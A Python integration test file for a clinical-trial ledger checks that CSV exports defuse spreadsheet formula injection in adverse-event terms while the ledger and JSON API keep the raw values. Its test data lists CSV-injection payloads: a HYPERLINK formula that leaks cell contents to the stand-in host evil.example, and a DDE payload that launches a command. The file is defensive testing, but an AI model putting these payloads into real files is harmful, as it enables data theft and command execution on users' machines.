"""CSV exports are safe to open in a spreadsheet: a verbatim AE term that looks like a formula
is exported as text (OWASP CSV injection: a leading `'`), by the HTTP export and by
`trial-ledger export` alike, while the ledger and the JSON API keep it as recorded
(issue 14, item 11)."""

from __future__ import annotations

import csv
import io
import os
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from rich.console import Console

from services.cli.exports import run_export
from services.client.site import SiteClient
from services.ledger.connection import connect
from services.ledger.io import read_stream
from services.runtime.system import System
from tests.integration.helpers import event, parameters

pytestmark = pytest.mark.integration

TRIAL = "CSV-TRIAL"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
)
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


@pytest.fixture(scope="module")
async def system(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[System]:
    saved = {k: os.environ.pop(k) for k in list(os.environ) if k.startswith("LEDGER_")}
    running = System(tmp_path_factory.mktemp("csv"), sites=("site01",))
    try:
        await running.start()
        settings = running.settings
        admin = await connect(settings.nats_url or "", settings.creds_for("admin"))
        reply = await SiteClient(admin, TRIAL, "_sponsor").submit(
            parameters(TRIAL, sites=("site01",))
        )
        assert reply["status"] == "accepted", reply
        await admin.close()
        site = await connect(settings.nats_url or "", settings.creds_for("site:site01"))
        client = SiteClient(site, TRIAL, "site01")
        for kind in ("enrolled", "infusion_given"):
            assert (await client.submit(event(kind, TRIAL)))["status"] == "accepted"
        for verbatim in FORMULAS:
            reply = await client.submit(event("ae_reported", TRIAL, data={"verbatim": verbatim}))
            assert reply["status"] == "accepted", reply
        await site.close()
        await running.services["projector"].wait_caught_up(60)
        yield running
    finally:
        await running.stop()
        os.environ.update(saved)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def http_export(system: System, dataset: str) -> str:
    token = system.runtime["api_tokens"]["admin"]
    async with httpx.AsyncClient(
        base_url=system.runtime["api_url"], headers={"Authorization": f"Bearer {token}"}
    ) as http:
        answer = await http.get(f"/api/trials/{TRIAL}/export/{dataset}.csv")
        assert answer.status_code == 200, answer.text
        return answer.text


async def test_a_formula_in_a_verbatim_ae_term_is_exported_as_text(system: System) -> None:
    exported = rows(await http_export(system, "adae"))
    assert sorted(row["AETERM"] for row in exported) == sorted("'" + f for f in FORMULAS)
    assert not [
        (column, cell)
        for row in exported
        for column, cell in row.items()
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not NUMBER.fullmatch(cell)
    ]


async def test_the_cli_export_neutralises_formulas_like_the_http_export(
    system: System, tmp_path: Path
) -> None:
    for dataset in ("adae", "adsl", "adtte", "adrs"):
        out = tmp_path / f"{dataset}.csv"
        code = await run_export(
            system.settings, dataset, trial=TRIAL, out=out, console=Console(file=io.StringIO())
        )
        assert code == 0
        assert out.read_bytes().decode() == await http_export(system, dataset)


async def test_the_ledger_and_the_json_api_keep_the_verbatim_term_as_recorded(
    system: System,
) -> None:
    admin = await connect(system.settings.nats_url or "", system.settings.creds_for("admin"))
    stored: list[dict[str, Any]] = [
        m.json() async for m in read_stream(admin.jetstream(), f"ledger.{TRIAL}.>")
    ]
    await admin.close()
    in_ledger = [s["data"]["verbatim"] for s in stored if s["type"] == "ae_reported"]
    assert sorted(in_ledger) == sorted(FORMULAS)
    token = system.runtime["api_tokens"]["admin"]
    async with httpx.AsyncClient(
        base_url=system.runtime["api_url"], headers={"Authorization": f"Bearer {token}"}
    ) as http:
        aes = (await http.get(f"/api/trials/{TRIAL}/safety/aes")).json()
    assert sorted(ae["verbatim"] for ae in aes) == sorted(FORMULAS)
